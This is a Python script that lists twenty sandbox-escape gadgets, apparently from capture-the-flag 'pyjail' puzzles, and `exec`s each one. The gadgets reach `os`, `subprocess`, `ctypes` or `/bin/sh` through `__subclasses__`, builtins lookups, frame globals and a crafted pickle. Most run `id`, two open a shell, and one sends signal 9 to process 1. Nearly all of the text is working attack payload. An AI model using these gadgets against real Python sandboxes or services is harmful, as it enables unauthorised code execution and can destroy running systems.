# Ways out of jails made of Python itself, from the collections of such puzzles: each looks for `os` or a shell by another road.
import sys

GADGETS = [
    "[c for c in object.__subclasses__() if 'wrap_close' in str(c)][0].__init__.__globals__['sys'].modules['os'].system('id')",
    "[c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')",
    "().__class__.__base__.__subclasses__()",
    "__import__('os').popen('id').read()",
    "__builtins__.__import__('subprocess').check_output('id')",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "(lambda: 0).__globals__['__builtins__'].__import__('pty').spawn('/bin/sh')",
    "sys.modules['posix'].system('id')",
    "sys.modules['os'].execl('/bin/sh', 'sh')",
    "breakpoint.__self__.__import__('ctypes').CDLL(None).system(b'id')",
    "__import__('importlib').import_module('_posixsubprocess').fork_exec",
    "(g := (x.gi_frame.f_back.f_back.f_globals for x in [0]))",
    "license._Printer__setup() or license._Printer__filenames",
    "__loader__.load_module('posix').system('id')",
    "__import__('code').interact.__globals__['sys'].modules['os'].fork()",
    "type('X', (), {'__del__': lambda s: __import__('os').system('id')})()",
    "eval(compile('__import__(\"os\").kill(1, 9)', '', 'eval'))",
    "__import__('pickle').loads(b\"cposix\\nsystem\\n(S'id'\\ntR.\")",
    "''.__class__.__format__('{0.__class__.__init__.__globals__}', '')",
    "__import__('multiprocessing').Process(target=print, args=('escaped',)).start()",
]
tried = 0
for gadget in GADGETS:
    tried += 1
    try:
        exec(gadget)
    except BaseException as error:
        print(type(error).__name__)
print("tried", tried)
